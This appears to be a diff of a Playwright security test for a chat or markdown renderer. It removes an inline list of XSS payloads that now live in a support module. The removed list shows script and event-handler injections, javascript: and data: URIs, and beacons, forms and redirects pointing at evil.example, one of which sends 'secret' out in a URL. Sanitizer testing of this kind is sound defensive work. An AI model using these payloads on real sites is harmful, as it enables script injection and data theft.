@@ -1,31 +1,7 @@
 import type { Page } from "@playwright/test";
 import { expect, test } from "./support/fixtures";
+import { PAYLOADS } from "./support/payloads";
 import { Talk } from "./support/steps";
-
-/** Every one of them sets window.hacked, opens an alert or asks a foreign server if it runs. */
-const PAYLOADS = [
-  "<script>window.hacked = 1</script>",
-  '<img src="x" onerror="window.hacked = 2">',
-  "<svg onload=\"window.hacked = 3\"><iframe srcdoc='<script>parent.hacked = 4</script>'></iframe></svg>",
-  '<a href="javascript:window.hacked=5">raw link</a>',
-  "[script link](javascript:window.hacked=6)",
-  "[mixed case](JaVaScRiPt:window.hacked=7)",
-  "[entity](&#106;avascript:window.hacked=8)",
-  "<javascript:window.hacked=9>",
-  "[data page](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-  "![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
-  "![beacon](https://evil.example/pixel.png?said=secret)",
-  "![beacon by reference][ref]\n\n[ref]: https://evil.example/ref.png",
-  "![protocol relative](//evil.example/relative.png)",
-  "<style>body { background: url(https://evil.example/style.png) }</style>",
-  '<link rel="stylesheet" href="https://evil.example/style.css"><base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-  '<form action="https://evil.example/"><input name="password" autofocus></form>',
-  '<video src="https://evil.example/v.mp4" autoplay></video><object data="https://evil.example/o"></object>',
-  '[title](https://ok.example "x\\" onmouseover=\\"window.hacked=10")',
-  "```html\n<script>window.hacked = 11</script>\n```",
-  "| a | b |\n|---|---|\n| <img src=x onerror=window.hacked=12> | [x](javascript:window.hacked=13) |",
-];
 
 async function expectUnharmed(page: Page): Promise<void> {
   const state = await page.evaluate(() => ({
